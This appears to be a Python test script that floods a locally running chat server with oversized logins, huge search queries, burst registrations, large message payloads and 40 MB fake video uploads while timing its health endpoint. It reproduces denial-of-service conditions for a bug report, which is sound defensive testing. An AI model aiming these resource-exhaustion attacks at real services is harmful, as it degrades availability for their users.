#!/usr/bin/env python3
"""Drives the attacks of issue 11 against a running `im serve` (rate limits off:
IM_RATE_LOGIN=0 IM_RATE_REGISTER=0 IM_RATE_WRITE=0 IM_RATE_SEND=0) and reports how long
/healthz took meanwhile, polled from a separate process. Usage: attack.py http://127.0.0.1:PORT"""
import json, threading, time, urllib.request, urllib.parse, sys, concurrent.futures, os, uuid
BASE = sys.argv[1]
POLL_OUT = os.path.join(os.environ.get('TMPDIR', '/tmp'), f'healthz-{os.getpid()}.txt')
def req(path, data=None, headers=None, form=True, timeout=120):
    h = dict(headers or {})
    body = None
    if data is not None:
        if form:
            body = urllib.parse.urlencode(data).encode(); h['Content-Type'] = 'application/x-www-form-urlencoded'
        else:
            body = json.dumps(data).encode(); h['Content-Type'] = 'application/json'
    r = urllib.request.Request(BASE + path, data=body, headers=h)
    try:
        with urllib.request.urlopen(r, timeout=timeout) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()
    except Exception as e:
        return str(e), b''

import subprocess, signal
def during(name, fn):
    poller = subprocess.Popen([sys.executable, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'healthz-poll.py'), BASE, POLL_OUT])
    time.sleep(0.3)
    t0 = time.perf_counter(); statuses = fn(); dt = time.perf_counter() - t0
    poller.send_signal(signal.SIGTERM); poller.wait()
    lat = sorted(float(x) for x in open(POLL_OUT).read().split())
    p99 = lat[int(len(lat) * 0.99) - 1] if lat else 0
    print(f"{name}: {dt:.1f}s, statuses {dict((s, statuses.count(s)) for s in set(statuses))}; /healthz {len(lat)} polls, max {lat[-1]:.1f} ms, p99 {p99:.1f} ms", flush=True)

def pool(n, f, jobs):
    with concurrent.futures.ThreadPoolExecutor(n) as ex:
        return list(ex.map(f, jobs))

# setup: a user with 50 auto-reply pairs and a searcher
st, b = req('/api/regChat', {'username': 'attacked1', 'password': '123456'})
owner = json.loads(b)['data']; ot = owner['token']
for i in range(50):
    req('/api/chat/askanswer/create', {'ask': f'问题{i} 价格 发货 退款 question{i}', 'answer': f'答案{i}'}, {'token': ot})
st, b = req('/api/regChat', {'username': 'attacker1', 'password': '123456'})
at = json.loads(b)['data']['token']

during('300 junk logins, 200 KB names, 8 at a time', lambda: pool(8, lambda i: req('/api/loginChat', {'username': f'{i}' + 'j' * 200_000, 'password': '123456'})[0], range(300)))
huge = '价格发货退款question ' * 10_000
during('8 concurrent 270 KB askanswer searches', lambda: pool(8, lambda i: req('/api/chat/askanswer/search', {'create_userId': owner['id'], 'ask': huge}, {'token': at}, form=False)[0], range(8)))
during('200 concurrent registrations', lambda: pool(200, lambda i: req('/api/regChat', {'username': f'burst{i:04d}', 'password': '123456'})[0], range(200)))
during('200 concurrent logins', lambda: pool(200, lambda i: req('/api/loginChat', {'username': f'burst{i:04d}', 'password': '123456'})[0], range(200)))
big = json.dumps({'blob': 'x' * 500_000})
during('100 messages with 500 KB options, 8 at a time', lambda: pool(8, lambda i: req('/api/chat/socket/sendmessage', {'sendto_id': owner['id'], 'chatType': 'single', 'type': 'text', 'data': 'hi', 'options': big}, {'token': at}, form=False)[0], range(100)))
def upload(i):
    boundary = uuid.uuid4().hex
    payload = b'\0\0\0\x18ftypmp42\0\0\0\0mp42isom' + b'\0' * (40 << 20)
    body = (f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="v.mp4"\r\nContent-Type: video/mp4\r\n\r\n').encode() + payload + f'\r\n--{boundary}--\r\n'.encode()
    r = urllib.request.Request(BASE + '/api/chat/uploadStreamSingleToServerDiy/attack', data=body, headers={'token': at, 'Content-Type': f'multipart/form-data; boundary={boundary}'})
    try:
        with urllib.request.urlopen(r, timeout=120) as resp: return resp.status
    except urllib.error.HTTPError as e: return e.code
    except Exception as e: return str(e)[:40]
during('16 concurrent 40 MB uploads (8 taken at once)', lambda: pool(16, upload, range(16)))
